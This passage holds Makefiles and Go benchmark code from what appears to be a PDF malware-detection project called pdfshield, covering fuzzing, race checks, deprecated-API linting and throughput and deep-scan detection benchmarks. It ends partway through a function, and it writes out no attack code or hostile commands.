GO ?= go

# Per-target budget for `make fuzz`. The committed seeds under
# internal/*/testdata/fuzz/ replay on every plain `make test` regardless.
FUZZTIME ?= 30s

.PHONY: build test race bench bench-json fuzz

build:
	$(GO) build ./...

test:
	$(GO) test ./...

# Race-checks the concurrent surface of the batch engine: the worker-pool
# pipeline, the shared runtime detector, and the content-addressed
# front-end cache (includes the 50-document / 8-worker mixed-corpus test,
# the duplicate-corpus cache-equivalence test, and the singleflight test).
race:
	$(GO) test -race ./internal/pipeline/... ./internal/detect/... ./internal/cache/...

# Batch-engine benchmarks: docs/sec at 1/4/8 workers plus the pooled
# parse/serialize round trip.
bench:
	$(GO) test -bench 'BenchmarkProcessBatch|BenchmarkParseReuse' -benchmem .

# Machine-readable batch + cache benchmark over the duplicate-heavy
# corpus. Writes BENCH.json (commit it as BENCH_pr<N>.json to extend the
# trajectory started by BENCH_pr3.json).
BENCHJSON ?= BENCH.json
bench-json:
	$(GO) run ./cmd/pdfshield-bench -json $(BENCHJSON)

# Fuzz every attacker-facing decoder for FUZZTIME each: full-document PDF
# parsing, the stream filter codecs, the Javascript interpreter, and the
# SOAP envelope codec. New crashers land in testdata/fuzz/ — commit them.
fuzz:
	$(GO) test -fuzz '^FuzzParse$$' -fuzztime $(FUZZTIME) ./internal/pdf/
	$(GO) test -fuzz '^FuzzFilters$$' -fuzztime $(FUZZTIME) ./internal/pdf/
	$(GO) test -fuzz '^FuzzJSInterp$$' -fuzztime $(FUZZTIME) ./internal/js/
	$(GO) test -fuzz '^FuzzEnvelope$$' -fuzztime $(FUZZTIME) ./internal/soapsrv/
