GO ?= go

.PHONY: build test race bench

build:
	$(GO) build ./...

test:
	$(GO) test ./...

# Race-checks the concurrent surface of the batch engine: the worker-pool
# pipeline and the shared runtime detector (includes the 50-document /
# 8-worker mixed-corpus test).
race:
	$(GO) test -race ./internal/pipeline/... ./internal/detect/...

# Batch-engine benchmarks: docs/sec at 1/4/8 workers plus the pooled
# parse/serialize round trip.
bench:
	$(GO) test -bench 'BenchmarkProcessBatch|BenchmarkParseReuse' -benchmem .
