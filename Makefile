GO ?= go

# Build identity stamped into pdfshield_build_info (internal/obs.Version).
# Defaults to `git describe` so release builds and dirty trees are
# distinguishable on a /v1/metrics scrape; override with VERSION=... .
VERSION ?= $(shell git describe --tags --always --dirty 2>/dev/null || echo dev)
LDFLAGS := -ldflags "-X pdfshield/internal/obs.Version=$(VERSION)"

# Per-target budget for `make fuzz`. The committed seeds under
# internal/*/testdata/fuzz/ replay on every plain `make test` regardless.
FUZZTIME ?= 30s

.PHONY: build vet test race bench bench-json bench-compare fuzz journal-check serve-smoke lint-deprecated lint-metrics

build:
	$(GO) build $(LDFLAGS) ./...

vet:
	$(GO) vet ./...

test: vet lint-deprecated lint-metrics journal-check serve-smoke
	$(GO) test ./...

# Metric vocabulary drift gate: every Metric* constant in internal/obs
# must be registered at runtime, and every registered pdfshield_* family
# must have a constant. Keeps dashboards and the code from diverging.
lint-metrics:
	$(GO) test -run TestMetricNameDrift -count=1 .

# Fails on any non-test usage of the deprecated scan surface:
# ProcessDocument/ProcessBatch (use the Context variants) and
# QuarantinedCount (use Stats). The defining files and the tests that pin
# the aliases' behavior are exempt; everything else must be migrated.
lint-deprecated:
	@matches=$$(grep -rnE '\.(ProcessDocument|ProcessBatch|QuarantinedCount)\(' \
		--include='*.go' --exclude='*_test.go' . \
		| grep -vE '^\./(pdfshield\.go|internal/pipeline/(pipeline|batch)\.go):' || true); \
	if [ -n "$$matches" ]; then \
		echo "deprecated API usage (migrate to ProcessDocumentContext/ProcessBatchContext/Stats):"; \
		echo "$$matches"; exit 1; \
	fi; \
	echo "lint-deprecated: clean"

# End-to-end daemon smoke: build the pdfshield-serve binary, start it on
# an ephemeral port, POST a corpus document, assert the verdict JSON, then
# SIGTERM and require a clean drain with the journal flushed.
serve-smoke:
	$(GO) test -run TestServeSmoke -count=1 ./cmd/pdfshield-serve/

# The replay-determinism gate: a live batch recorded to the forensic
# journal must replay through a fresh detector with byte-identical
# canonical events (feature triggers, malscores, alert order) and an
# unchanged verdict when the journal sink fails. Runs as part of `make
# test` too (the tests live in internal/pipeline); this target names the
# invariant so it can be run alone after touching detect/ or journal/.
journal-check:
	$(GO) test -run 'TestReplay|TestJournal' ./internal/pipeline/... ./internal/journal/...

# Race-checks the concurrent surface of the batch engine and the
# observability layer: the worker-pool pipeline (including mid-batch
# cancellation), the shared runtime detector, the content-addressed
# front-end cache with its context-aware singleflight, the lock-free
# metrics registry, the journal writer all workers append to, and the
# script engine — compiled-unit cache loads and VM dispatch of shared
# units, exercised under concurrent batch load by the pipeline tests.
# The serve package rides along: admission queue saturation, tenant
# limiter contention, drain-vs-in-flight races, and the hook server's
# accept-retry loop. The triage tier runs inside the worker pool (every
# batch worker evaluates documents concurrently), so it rides too, as
# does the forced-execution deep lane (pipeline deep-scan tests run
# evasive corpora at batch width > 1, and the js package exercises the
# explorer directly).
race:
	$(GO) test -race ./internal/pipeline/... ./internal/detect/... ./internal/cache/... ./internal/obs/... ./internal/journal/... ./internal/js/... ./internal/serve/... ./internal/hook/... ./internal/triage/...

# Batch-engine benchmarks: docs/sec at 1/4/8 workers plus the pooled
# parse/serialize round trip.
bench:
	$(GO) test -bench 'BenchmarkProcessBatch|BenchmarkParseReuse' -benchmem .

# Machine-readable batch + cache benchmark over the duplicate-heavy
# corpus. Writes BENCH.json (commit it as BENCH_pr<N>.json to extend the
# trajectory started by BENCH_pr3.json).
BENCHJSON ?= BENCH.json
bench-json:
	$(GO) run ./cmd/pdfshield-bench -json $(BENCHJSON)

# Perf regression gate: diff two committed benchmark records and fail on a
# >10% warm open-phase p50 regression or a >10% end-to-end docs/sec drop
# in the parallel-cached pass. Records that predate a section (schema/1
# has no open phase, serve-only schema/3 has no batch sections, pre-/4 has
# no triage) are accepted; the missing gates are skipped with a note.
BENCH_OLD ?= BENCH_pr8.json
BENCH_NEW ?= BENCH_pr9.json
bench-compare:
	$(GO) run ./cmd/pdfshield-bench -compare $(BENCH_OLD) $(BENCH_NEW)

# Fuzz every attacker-facing decoder for FUZZTIME each: full-document PDF
# parsing, the stream filter codecs, the Javascript interpreter (single
# run and forced-execution exploration — arbitrary scripts must never
# panic, hang, or leak forcing state out of the explorer), the SOAP
# envelope codec, and the static triage tier (census + abstract
# interpretation over arbitrary bytes — it must stay fail-safe, never
# panic, and never route unparseable input confident-benign). New
# crashers land in testdata/fuzz/ — commit them.
fuzz:
	$(GO) test -fuzz '^FuzzParse$$' -fuzztime $(FUZZTIME) ./internal/pdf/
	$(GO) test -fuzz '^FuzzFilters$$' -fuzztime $(FUZZTIME) ./internal/pdf/
	$(GO) test -fuzz '^FuzzJSInterp$$' -fuzztime $(FUZZTIME) ./internal/js/
	$(GO) test -fuzz '^FuzzForcedExec$$' -fuzztime $(FUZZTIME) ./internal/js/
	$(GO) test -fuzz '^FuzzEnvelope$$' -fuzztime $(FUZZTIME) ./internal/soapsrv/
	$(GO) test -fuzz '^FuzzTriage$$' -fuzztime $(FUZZTIME) ./internal/triage/
