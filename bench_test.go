package pdfshield_test

// One benchmark per table and figure of the paper's evaluation (§V), plus
// component micro-benchmarks. The heavyweight experiment benchmarks run one
// scaled-down evaluation per iteration and attach the headline numbers as
// custom metrics, so `go test -bench=. -benchmem` regenerates every result
// the paper reports. Run cmd/pdfshield-bench for full-scale, rendered
// tables.

import (
	"fmt"
	"testing"

	"pdfshield/internal/corpus"
	"pdfshield/internal/experiments"
	"pdfshield/internal/instrument"
	"pdfshield/internal/js"
	"pdfshield/internal/pdf"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/reader"
)

// benchCfg keeps per-iteration cost manageable; scale up via
// cmd/pdfshield-bench -scale.
var benchCfg = experiments.Config{Scale: 0.02, Seed: 99}

func BenchmarkTableV_Dataset(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.TableV(benchCfg)
		if len(res.Tables) == 0 {
			b.Fatal("no table")
		}
	}
}

func BenchmarkFigure6_JSChainRatioCDF(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.Figure6(benchCfg)
		if len(res.Figures[0].Lines) != 2 {
			b.Fatal("missing lines")
		}
	}
}

func BenchmarkTableVI_StaticFeatureStats(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.TableVI(benchCfg)
		if len(res.Tables[0].Rows) != 4 {
			b.Fatal("missing rows")
		}
	}
}

func BenchmarkFigure7_JSContextMemory(b *testing.B) {
	for i := 0; i < b.N; i++ {
		experiments.Figure7(benchCfg)
	}
}

func BenchmarkFigure8_ContextFreeMemory(b *testing.B) {
	for i := 0; i < b.N; i++ {
		experiments.Figure8(benchCfg)
	}
}

func BenchmarkTableVIII_DetectionAccuracy(b *testing.B) {
	var acc experiments.Accuracy
	for i := 0; i < b.N; i++ {
		_, acc = experiments.TableVIII(benchCfg)
	}
	b.ReportMetric(acc.DetectionRate()*100, "TP%")
	b.ReportMetric(acc.FPRate()*100, "FP%")
}

func BenchmarkTableIX_BaselineComparison(b *testing.B) {
	_, acc := experiments.TableVIII(benchCfg)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res := experiments.TableIX(benchCfg, acc)
		if len(res.Tables[0].Rows) < 7 {
			b.Fatal("missing baselines")
		}
	}
}

func BenchmarkTableX_StaticTime(b *testing.B) {
	// The real per-operation measurement behind Table X: front-end
	// instrumentation across size classes.
	g := corpus.NewGenerator(4)
	for _, sz := range []struct {
		name  string
		bytes int
	}{
		{"2KB", 2 << 10},
		{"24KB", 24 << 10},
		{"325KB", 325 << 10},
		{"7MB", 7 << 20},
	} {
		sample := g.Sized(sz.bytes, false)
		b.Run(sz.name, func(b *testing.B) {
			b.SetBytes(int64(len(sample.Raw)))
			for i := 0; i < b.N; i++ {
				reg := instrument.NewRegistry("benchdetector01")
				ins := instrument.New(reg, instrument.Options{Seed: 1})
				if _, err := ins.InstrumentBytes(sample.ID, sample.Raw); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkTableXI_StaticMemory(b *testing.B) {
	g := corpus.NewGenerator(5)
	sample := g.Sized(325<<10, false)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		doc, err := pdf.Parse(sample.Raw, pdf.ParseOptions{})
		if err != nil {
			b.Fatal(err)
		}
		if _, err := pdf.ReconstructChains(doc); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkRuntimeOverhead_PerScript(b *testing.B) {
	// §V-D2: monitored vs raw execution of a one-script document.
	g := corpus.NewGenerator(6)
	sample := g.BenignFormJS()

	b.Run("raw", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			proc := reader.NewProcess(reader.Config{ViewerVersion: 9.0})
			if _, err := proc.Open("raw", sample.Raw, reader.OpenOptions{}); err != nil {
				b.Fatal(err)
			}
			proc.Close()
		}
	})
	b.Run("instrumented", func(b *testing.B) {
		sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 9.0, Seed: 6})
		if err != nil {
			b.Fatal(err)
		}
		defer func() { _ = sys.Close() }()
		res, err := sys.Instrumenter.InstrumentBytes("inst", sample.Raw)
		if err != nil {
			b.Fatal(err)
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			sess, err := sys.NewSession()
			if err != nil {
				b.Fatal(err)
			}
			if _, err := sess.OpenRaw("inst", res.Output, reader.OpenOptions{}); err != nil {
				b.Fatal(err)
			}
			sess.Close()
		}
	})
}

func BenchmarkSecurityAnalysis_Evasion(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.SecurityAnalysis(benchCfg)
		if len(res.Tables[0].Rows) < 5 {
			b.Fatal("missing attacks")
		}
	}
}

// ---- batch engine benchmarks ----

// batchBenchDocs builds a deterministic mixed corpus (malicious / benign
// with JS / benign without JS) for the batch benchmarks.
func batchBenchDocs(n int) []pipeline.BatchDoc {
	g := corpus.NewGenerator(4242)
	docs := make([]pipeline.BatchDoc, 0, n)
	for len(docs) < n {
		var s corpus.Sample
		switch len(docs) % 3 {
		case 0:
			s = g.Malicious()
		case 1:
			s = g.BenignWithJS(1)[0]
		default:
			s = g.BenignText(20 << 10)
		}
		docs = append(docs, pipeline.BatchDoc{ID: fmt.Sprintf("bench-%03d-%s", len(docs), s.ID), Raw: s.Raw})
	}
	return docs
}

// BenchmarkProcessBatch measures the worker-pool pipeline at several pool
// widths, reporting docs/sec. Workers reuse sessions (one recycled reader
// process each), so wider pools also amortize process spawn + hook
// connection setup. On a single-CPU host the speedup from width alone is
// bounded; session reuse still helps.
func BenchmarkProcessBatch(b *testing.B) {
	docs := batchBenchDocs(24)
	for _, workers := range []int{1, 4, 8} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				// Fresh system per iteration: the registry enforces the
				// paper's no-duplicate-instrumentation rule by content
				// hash, so one system cannot re-process the same corpus.
				// Setup stays outside the timed region.
				b.StopTimer()
				sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 9.0, Seed: 99})
				if err != nil {
					b.Fatal(err)
				}
				b.StartTimer()
				res := sys.ProcessBatch(docs, pipeline.BatchOptions{Workers: workers})
				if n := res.Failed(); n != 0 {
					for j, err := range res.Errors {
						if err != nil {
							b.Fatalf("%d documents failed; first: %s: %v", n, docs[j].ID, err)
						}
					}
				}
				b.StopTimer()
				_ = sys.Close()
				b.StartTimer()
			}
			b.StopTimer()
			b.ReportMetric(float64(len(docs)*b.N)/b.Elapsed().Seconds(), "docs/sec")
		})
	}
}

// BenchmarkParseReuse measures the allocation-pooled parse/serialize round
// trip (sync.Pool buffers in the lexer, filters and writer). Run with
// -benchmem to see the pooled allocation profile.
func BenchmarkParseReuse(b *testing.B) {
	g := corpus.NewGenerator(7)
	sample := g.BenignText(256 << 10)
	b.SetBytes(int64(len(sample.Raw)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		doc, err := pdf.Parse(sample.Raw, pdf.ParseOptions{})
		if err != nil {
			b.Fatal(err)
		}
		if _, err := pdf.Write(doc, pdf.WriteOptions{}); err != nil {
			b.Fatal(err)
		}
	}
}

// ---- component micro-benchmarks ----

func BenchmarkComponentPDFParse(b *testing.B) {
	g := corpus.NewGenerator(7)
	sample := g.BenignText(256 << 10)
	b.SetBytes(int64(len(sample.Raw)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := pdf.Parse(sample.Raw, pdf.ParseOptions{}); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkComponentJSInterp(b *testing.B) {
	src := `
var total = 0;
for (var i = 0; i < 1000; i++) { total += i * 2; }
var s = "x";
for (var j = 0; j < 6; j++) s += s;
total + s.length;
`
	prog, err := js.Parse(src)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		it := js.New()
		if _, err := it.RunProgram(prog); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkComponentMonitorDecrypt(b *testing.B) {
	// Full monitored-script round trip: instrumentation + execution with
	// SOAP stubs (the paper's 0.093 s/script path).
	d := pdf.NewDocument()
	jsRef := d.Add(pdf.String{Value: []byte("var r = 1 + 2;")})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsRef})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	d.Trailer["Root"] = catalog
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		b.Fatal(err)
	}
	reg := instrument.NewRegistry("benchdetector02")
	ins := instrument.New(reg, instrument.Options{Seed: 2})
	res, err := ins.InstrumentBytes("bench", raw)
	if err != nil {
		b.Fatal(err)
	}
	doc, err := pdf.Parse(res.Output, pdf.ParseOptions{})
	if err != nil {
		b.Fatal(err)
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		b.Fatal(err)
	}
	monitored := chains.Chains[0].Source

	prog, err := js.Parse(monitored)
	if err != nil {
		b.Fatal(err)
	}
	for i := 0; i < b.N; i++ {
		it := js.New()
		soap := js.NewHostObject("SOAP")
		soap.Set("request", js.ObjectValue(js.NewHostFunc("request", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
			resp := js.NewObject()
			resp.Set("status", js.StringValue("ok"))
			return js.ObjectValue(resp), nil
		})))
		it.Global.Declare("SOAP", js.ObjectValue(soap))
		if _, err := it.RunProgram(prog); err != nil {
			b.Fatal(err)
		}
	}
}
