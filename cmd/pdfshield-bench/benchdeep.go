package main

// The forced-execution deep-scan section of the -json benchmark (schema
// pdfshield-bench/5). The corpus is the evasive population the deep tier
// exists for: working exploits hidden behind gates that evaluate false
// in any single-execution sandbox (time bombs, locale fingerprints,
// emulation checks). The section records the detection uplift of deep
// over standard depth, the explored path counts per document, and the
// p50 wall-clock cost of a deep open relative to a standard one — the
// price/coverage trade-off an operator chooses -depth with.

import (
	"context"
	"fmt"
	"time"

	"pdfshield/internal/corpus"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
)

// deepBenchSeedsPerKind is how many seeds of each evasive family the
// section scans (distinct spray/gate randomizations of the same
// technique).
const deepBenchSeedsPerKind = 3

// benchDeepDoc is one evasive document's outcome at deep depth.
type benchDeepDoc struct {
	ID       string `json:"id"`
	Family   string `json:"family"`
	Paths    int    `json:"paths"`
	Detected bool   `json:"detected"`
}

// benchDeepScan is the deep-scan section of a schema/5 record.
type benchDeepScan struct {
	Docs int `json:"docs"`
	// DetectedStandard/DetectedDeep count convictions of the same evasive
	// corpus at each depth; the delta is the forced-execution uplift.
	DetectedStandard int     `json:"detected_standard"`
	DetectedDeep     int     `json:"detected_deep"`
	StandardRate     float64 `json:"standard_rate"`
	DeepRate         float64 `json:"deep_rate"`
	// StandardP50Us/DeepP50Us are per-document end-to-end p50 over the
	// corpus at each depth; CostRatio is deep/standard.
	StandardP50Us float64 `json:"standard_p50_us"`
	DeepP50Us     float64 `json:"deep_p50_us"`
	CostRatio     float64 `json:"cost_ratio"`
	// PerDoc is the deep pass per document: family, explored paths,
	// verdict.
	PerDoc []benchDeepDoc `json:"per_doc"`
}

// deepBenchCorpus builds the evasive corpus: every gated family at
// several seeds.
func deepBenchCorpus(seed int64) []corpus.Sample {
	var out []corpus.Sample
	for i, kind := range corpus.EvasiveKinds() {
		for r := 0; r < deepBenchSeedsPerKind; r++ {
			s, ok := corpus.NewGenerator(seed + int64(100*i+r)).Evasive(kind)
			if !ok {
				panic("bench: unknown evasive kind " + kind)
			}
			out = append(out, s)
		}
	}
	return out
}

// runDeepPass scans the corpus at one depth on a fresh system, returning
// per-document verdict/path data and durations.
func runDeepPass(samples []corpus.Sample, seed int64, depth pipeline.Depth) ([]benchDeepDoc, []time.Duration, error) {
	sys, err := pipeline.NewSystem(pipeline.Options{
		ViewerVersion: 9.0, Seed: seed, Obs: obs.NewRegistry(), Depth: depth,
	})
	if err != nil {
		return nil, nil, err
	}
	defer func() { _ = sys.Close() }()
	docs := make([]benchDeepDoc, 0, len(samples))
	durs := make([]time.Duration, 0, len(samples))
	for _, s := range samples {
		start := time.Now()
		v, err := sys.ProcessDocumentContext(context.Background(), s.ID, s.Raw)
		if err != nil {
			return nil, nil, fmt.Errorf("%s at depth %s: %w", s.ID, depth, err)
		}
		durs = append(durs, time.Since(start))
		d := benchDeepDoc{ID: s.ID, Family: s.Family, Detected: v.Malicious}
		if v.Open != nil {
			d.Paths = v.Open.DeepPaths
		}
		docs = append(docs, d)
	}
	return docs, durs, nil
}

// runDeepScanBench measures the same evasive corpus at standard and deep
// depth.
func runDeepScanBench(seed int64) (*benchDeepScan, error) {
	samples := deepBenchCorpus(seed)
	std, stdDurs, err := runDeepPass(samples, seed, pipeline.DepthStandard)
	if err != nil {
		return nil, fmt.Errorf("standard pass: %w", err)
	}
	deep, deepDurs, err := runDeepPass(samples, seed, pipeline.DepthDeep)
	if err != nil {
		return nil, fmt.Errorf("deep pass: %w", err)
	}
	sec := &benchDeepScan{Docs: len(samples), PerDoc: deep}
	for _, d := range std {
		if d.Detected {
			sec.DetectedStandard++
		}
	}
	for _, d := range deep {
		if d.Detected {
			sec.DetectedDeep++
		}
	}
	if sec.Docs > 0 {
		sec.StandardRate = float64(sec.DetectedStandard) / float64(sec.Docs)
		sec.DeepRate = float64(sec.DetectedDeep) / float64(sec.Docs)
	}
	sec.StandardP50Us = pctUS(stdDurs, 0.5)
	sec.DeepP50Us = pctUS(deepDurs, 0.5)
	if sec.StandardP50Us > 0 {
		sec.CostRatio = sec.DeepP50Us / sec.StandardP50Us
	}
	return sec, nil
}
