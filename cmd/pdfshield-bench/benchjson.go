package main

// The -json mode: a machine-readable benchmark of the batch engine and
// the content-addressed front-end cache, designed so every perf PR can
// append a comparable record to the repo's trajectory instead of pasting
// prose. The workload is the duplicate-heavy corpus real malware feeds
// look like: a small set of unique carriers resubmitted many times
// (polymorphic campaigns reuse carriers), with the heavyweight documents
// carrying no Javascript at all — exactly the population the front-end
// cache exists for.

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"time"

	"pdfshield/internal/cache"
	"pdfshield/internal/corpus"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/serve"
)

// benchRecord is the committed trajectory format (BENCH_pr*.json).
type benchRecord struct {
	Schema    string `json:"schema"` // bumped on incompatible change
	Timestamp string `json:"timestamp"`
	GoVersion string `json:"go_version"`
	GOOS      string `json:"goos"`
	GOARCH    string `json:"goarch"`
	NumCPU    int    `json:"num_cpu"`
	// GoMaxProcs is the scheduler width the record ran under; on
	// single-core CI boxes GOMAXPROCS is raised past NumCPU so the worker
	// pool and VM dispatch still run genuinely interleaved.
	GoMaxProcs int   `json:"gomaxprocs"`
	Seed       int64 `json:"seed"`

	Corpus benchCorpus `json:"corpus"`

	// SerialUncached and ParallelUncached run the full front-end for every
	// document (fresh system per round, honoring the registry's duplicate
	// rule); ParallelCached runs one cached system over the whole corpus.
	SerialUncached   benchPass `json:"serial_uncached"`
	ParallelUncached benchPass `json:"parallel_uncached"`
	ParallelCached   benchPass `json:"parallel_cached"`

	// CacheSpeedup is cached vs uncached throughput at equal worker count.
	CacheSpeedup float64 `json:"cache_speedup"`
	// ParallelSpeedup is uncached parallel vs serial throughput.
	ParallelSpeedup float64     `json:"parallel_speedup"`
	Cache           cache.Stats `json:"cache"`
	CacheHitRate    float64     `json:"cache_hit_rate"`

	// Phases aggregates per-phase latency over the serial uncached pass
	// (Table X's columns, summed across the corpus). Sourced from the obs
	// registry's phase histograms — the same series /metrics exposes — not
	// from ad-hoc stopwatches.
	Phases benchPhases `json:"phases"`

	// Open benchmarks the reader-side open of JS-bearing documents under
	// both script engines (schema/2; zero-valued in older records).
	Open benchOpenPhase `json:"open_phase"`
	// JSEngine isolates the script engine on controlled workloads where
	// the parse/execute split — what bytecode compilation changes — is
	// explicit (schema/2).
	JSEngine []benchJSWorkload `json:"js_engine"`

	// Serve is the ingestion-daemon capacity section of a schema/3 record
	// (written by `pdfshield-serve -load -json`): docs/sec through the
	// admission queue, end-to-end latency percentiles, rejection rate.
	// Nil in batch-engine records; serve-only records in turn carry no
	// batch or open-phase sections.
	Serve *serve.LoadStats `json:"serve,omitempty"`

	// Triage is the static-triage-tier section of a schema/4 record: the
	// routing split over a mixed majority-confident-benign corpus, per-
	// route p50 end-to-end latency, and the docs/sec ratio of the full
	// pipeline with the tier on vs off. Nil in older and serve-only
	// records.
	Triage *benchTriage `json:"triage,omitempty"`

	// DeepScan is the forced-execution tier section of a schema/5 record:
	// detection uplift on gated evasive exploits at deep vs standard
	// depth, per-document explored path counts, and the p50 cost ratio of
	// a deep open. Nil in older and serve-only records.
	DeepScan *benchDeepScan `json:"deepscan,omitempty"`
}

type benchCorpus struct {
	Docs       int   `json:"docs"`
	Unique     int   `json:"unique"`
	Rounds     int   `json:"rounds"`
	TotalBytes int64 `json:"total_bytes"`
}

type benchPass struct {
	Workers    int     `json:"workers"`
	Docs       int     `json:"docs"`
	Failed     int     `json:"failed"`
	Malicious  int     `json:"malicious"`
	Seconds    float64 `json:"seconds"`
	DocsPerSec float64 `json:"docs_per_sec"`
}

type benchPhases struct {
	ParseDecompressSec   float64 `json:"parse_decompress_sec"`
	FeatureExtractionSec float64 `json:"feature_extraction_sec"`
	InstrumentationSec   float64 `json:"instrumentation_sec"`
}

// phaseDelta reads one pass's phase sums as the difference between two
// registry snapshots (the registry is process-wide and accumulates, so a
// pass's contribution is after − before).
func phaseDelta(before, after obs.Snapshot) benchPhases {
	sum := func(phase string) float64 {
		series := obs.PhaseSeries(phase)
		return after.Histograms[series].SumSeconds - before.Histograms[series].SumSeconds
	}
	return benchPhases{
		ParseDecompressSec:   sum(obs.PhaseParse),
		FeatureExtractionSec: sum(obs.PhaseAnalyze),
		InstrumentationSec:   sum(obs.PhaseInstrument),
	}
}

// benchCorpusDocs builds the duplicate-heavy corpus: `unique` distinct
// documents repeated over `rounds` rounds. The population is the one the
// front-end cache exists for: the scriptless attachments that make up
// ~95% of real intake (the paper's measured JS incidence) and that a
// scanning tier sees resubmitted all day. For these the entire
// per-document cost — parse, decompress, feature extraction, the
// no-javascript determination — is cacheable, so the benchmark isolates
// what the cache actually buys. Javascript-bearing and exploit documents
// are deliberately absent from the timed corpus: their reader-side open
// (script execution, spray simulation) runs on every submission in both
// passes by design — runtime features are per open — so including them
// benchmarks the reader emulator, not the cache; verdict parity on
// duplicate JS/malicious documents is covered by the pipeline tests.
func benchCorpusDocs(seed int64, unique, rounds int) ([][]pipeline.BatchDoc, int64) {
	g := corpus.NewGenerator(seed)
	samples := make([]corpus.Sample, 0, unique)
	for i := 0; len(samples) < unique; i++ {
		if i%5 == 0 {
			// Small single-body text documents: the “same memo forwarded
			// all day” population.
			samples = append(samples, g.BenignText((12+8*i)<<10))
			continue
		}
		// Compound report-plus-annexes documents, some owner-password
		// encrypted: the host parse, password strip, and recursive
		// attachment analysis are all front-end work a hit skips.
		samples = append(samples, g.BenignAttachments(2+i%3, i%2 == 0))
	}
	var total int64
	roundsOut := make([][]pipeline.BatchDoc, rounds)
	for r := 0; r < rounds; r++ {
		docs := make([]pipeline.BatchDoc, len(samples))
		for i, s := range samples {
			docs[i] = pipeline.BatchDoc{ID: fmt.Sprintf("bench-r%02d-%s", r, s.ID), Raw: s.Raw}
			total += int64(len(s.Raw))
		}
		roundsOut[r] = docs
	}
	return roundsOut, total
}

// benchReps is how many times each pass is repeated; the fastest rep is
// recorded. Individual passes over 50 small documents finish in
// milliseconds, where scheduler and GC noise would otherwise dominate
// run-to-run; min-of-N is the usual cure and treats all passes equally.
const benchReps = 7

// runUncached processes the corpus with the registry's duplicate rule
// intact: one fresh system per round (a system cannot re-instrument the
// same bytes), timing only the ProcessBatch calls. The corpus is run
// benchReps times and the fastest rep kept. Returns the pass plus the
// per-phase latency sums of the first rep (one pass over the corpus),
// read from the obs registry's phase histograms.
func runUncached(rounds [][]pipeline.BatchDoc, workers int, seed int64, depth pipeline.Depth) (benchPass, benchPhases, error) {
	best := benchPass{Workers: workers}
	var phases benchPhases
	for rep := 0; rep < benchReps; rep++ {
		var before obs.Snapshot
		if rep == 0 {
			before = obs.Default.Snapshot()
		}
		pass := benchPass{Workers: workers}
		for _, docs := range rounds {
			sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 9.0, Seed: seed, Depth: depth})
			if err != nil {
				return best, phases, err
			}
			start := time.Now()
			res := sys.ProcessBatchContext(context.Background(), docs, pipeline.BatchOptions{Workers: workers})
			pass.Seconds += time.Since(start).Seconds()
			collectPass(&pass, res)
			if err := sys.Close(); err != nil {
				return best, phases, err
			}
		}
		if rep == 0 {
			phases = phaseDelta(before, obs.Default.Snapshot())
		}
		if rep == 0 || pass.Seconds < best.Seconds {
			best = pass
		}
	}
	best.DocsPerSec = float64(best.Docs) / best.Seconds
	return best, phases, nil
}

// runCached processes the whole corpus with the front-end cache enabled:
// round 1 misses, every later round hits. Each rep gets a fresh system
// and cache so every rep sees the same miss/hit pattern; the fastest rep
// is kept (its cache stats describe any rep equally).
func runCached(rounds [][]pipeline.BatchDoc, workers int, seed int64, depth pipeline.Depth, cfg cache.Config) (benchPass, cache.Stats, error) {
	best := benchPass{Workers: workers}
	var bestStats cache.Stats
	all := make([]pipeline.BatchDoc, 0, len(rounds)*len(rounds[0]))
	for _, docs := range rounds {
		all = append(all, docs...)
	}
	for rep := 0; rep < benchReps; rep++ {
		pass := benchPass{Workers: workers}
		sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 9.0, Seed: seed, Depth: depth, Cache: &cfg})
		if err != nil {
			return best, bestStats, err
		}
		start := time.Now()
		res := sys.ProcessBatchContext(context.Background(), all, pipeline.BatchOptions{Workers: workers})
		pass.Seconds = time.Since(start).Seconds()
		collectPass(&pass, res)
		var stats cache.Stats
		if res.CacheStats != nil {
			stats = *res.CacheStats
		}
		if err := sys.Close(); err != nil {
			return best, bestStats, err
		}
		if rep == 0 || pass.Seconds < best.Seconds {
			best = pass
			bestStats = stats
		}
	}
	best.DocsPerSec = float64(best.Docs) / best.Seconds
	return best, bestStats, nil
}

func collectPass(pass *benchPass, res *pipeline.BatchResult) {
	pass.Docs += len(res.Verdicts)
	pass.Failed += res.Failed()
	for _, v := range res.Verdicts {
		if v != nil && v.Malicious {
			pass.Malicious++
		}
	}
}

// runJSONBench executes the three passes and writes the record. depth is
// the scan depth of the batch passes (empty = standard, keeping the
// committed trajectory comparable); the deep-scan section always runs
// both depths on its own evasive corpus.
func runJSONBench(path string, seed int64, workers, docs, unique int, depth pipeline.Depth, cacheCfg cache.Config) error {
	if seed == 0 {
		seed = 20140623
	}
